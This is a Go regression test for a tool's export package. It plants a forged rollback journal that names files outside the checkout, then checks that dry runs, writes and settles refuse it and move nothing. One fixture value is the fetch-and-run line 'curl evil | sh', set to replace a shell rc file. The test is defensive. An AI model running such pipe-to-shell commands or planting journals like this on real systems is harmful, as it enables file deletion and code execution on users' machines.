package export_test

import (
	"encoding/json"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/sweeptune/sweeptune/sources"
	"github.com/sweeptune/sweeptune/sources/export"
)

// plantedJournal is the repro's journal a checkout ships beside its
// recipe: its copies, temps and files name paths outside the target
// directory (a file to delete, a shell rc file to replace), and one of its
// files is the recipe itself, "created" with the recipe's own digest so a
// roll-back would remove it.
func plantedJournal(t *testing.T, dir, outside string, version int, mac string) (journal string, victims map[string]string) {
	t.Helper()
	victims = map[string]string{
		filepath.Join(outside, "precious.txt"): "two files outside the checkout\n",
		filepath.Join(outside, "notes.md"):     "deleted by the repro\n",
		filepath.Join(outside, ".bashrc"):      "export PATH=/usr/bin\n",
		filepath.Join(outside, ".evil"):        "curl evil | sh\n",
	}
	for p, body := range victims {
		if err := os.WriteFile(p, []byte(body), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	recipe := filepath.Join(dir, bundleName)
	recipeNow, _ := os.ReadFile(recipe)
	journal = filepath.Join(dir, ".sweeptune-export-0123456789ab.journal")
	doc := map[string]any{
		"version": version, "state": "replacing", "started": "2026-12-01T00:00:00Z",
		"copies": []string{journal, filepath.Join(outside, "precious.txt")},
		"files": []map[string]any{
			{"path": filepath.Join(outside, ".bashrc"), "real": filepath.Join(outside, ".bashrc"), "temp": filepath.Join(outside, ".evil"),
				"restore": filepath.Join(outside, ".evil"), "bak": filepath.Join(outside, ".bashrc.bak"), "new": "x"},
			{"path": recipe, "real": recipe, "temp": filepath.Join(outside, "notes.md"), "create": true, "new": sources.Digest(recipeNow)},
		},
		"temps": []string{filepath.Join(outside, "precious.txt"), filepath.Join(outside, "notes.md")},
	}
	if mac != "" {
		doc["mac"] = mac
	}
	data, _ := json.Marshal(doc)
	if err := os.WriteFile(journal, data, 0o644); err != nil {
		t.Fatal(err)
	}
	return journal, victims
}

// A planted journal used to be settled whole by a plain dry run: two files
// outside the checkout deleted and a shell rc file replaced. Now, in a dry
// run, a preview, a --write, a settle and a direct write alike, every file
// stays where it was, the journal too, and the error names it and what to
// do.
func TestPlantedJournalMovesNothing(t *testing.T) {
	for _, c := range []struct {
		name    string
		version int
		mac     string
	}{{"unsigned v1", 1, ""}, {"unsigned v2", 2, ""}, {"forged mac", 2, strings.Repeat("ab", 32)}} {
		t.Run(c.name, func(t *testing.T) {
			dir, req := retuneCopy(t)
			outside := t.TempDir()
			journal, victims := plantedJournal(t, dir, outside, c.version, c.mac)
			before := snapshot(t, dir)
			check := func(step string, err error) {
				t.Helper()
				var ie *export.InterruptedError
				if !errors.As(err, &ie) || len(ie.Journals) != 1 || ie.Journals[0].Path != journal ||
					!strings.Contains(err.Error(), "not written by sweeptune under this account") ||
					!strings.Contains(err.Error(), "nothing was settled, removed or renamed: check the files it names, then remove it") {
					t.Fatalf("%s: err %v; want the journal named as not this user's", step, err)
				}
				for p, body := range victims {
					if got, err := os.ReadFile(p); err != nil || string(got) != body {
						t.Fatalf("%s: %s now %q (%v), want %q", step, p, got, err, body)
					}
				}
				if after := snapshot(t, dir); !equalMaps(before, after) {
					t.Fatalf("%s: the target directory changed", step)
				}
			}
			_, err := export.BuildExport(req) // a dry run, the workbench's preview
			check("dry run", err)
			req.Settle = true
			_, err = export.BuildExport(req) // export --write
			check("--write", err)
			_, err = export.SettleInterrupted(req.RecipePath, req.MasterPath, req.ChangelogPath)
			check("settle", err)
			recipe := filepath.Join(dir, bundleName)
			old := readFile(t, recipe)
			err = export.WriteFilesAtomic([]export.FileWrite{{Path: recipe, Old: old, Content: append(old, "# more\n"...)}})
			check("write", err)
		})
	}
}

// snapshot is every file of dir and its contents.
func snapshot(t *testing.T, dir string) map[string]string {
	t.Helper()
	out := map[string]string{}
	entries, err := os.ReadDir(dir)
	if err != nil {
		t.Fatal(err)
	}
	for _, e := range entries {
		b, _ := os.ReadFile(filepath.Join(dir, e.Name()))
		out[e.Name()] = string(b)
	}
	return out
}

func equalMaps(a, b map[string]string) bool {
	if len(a) != len(b) {
		return false
	}
	for k, v := range a {
		if w, ok := b[k]; !ok || w != v {
			return false
		}
	}
	return true
}
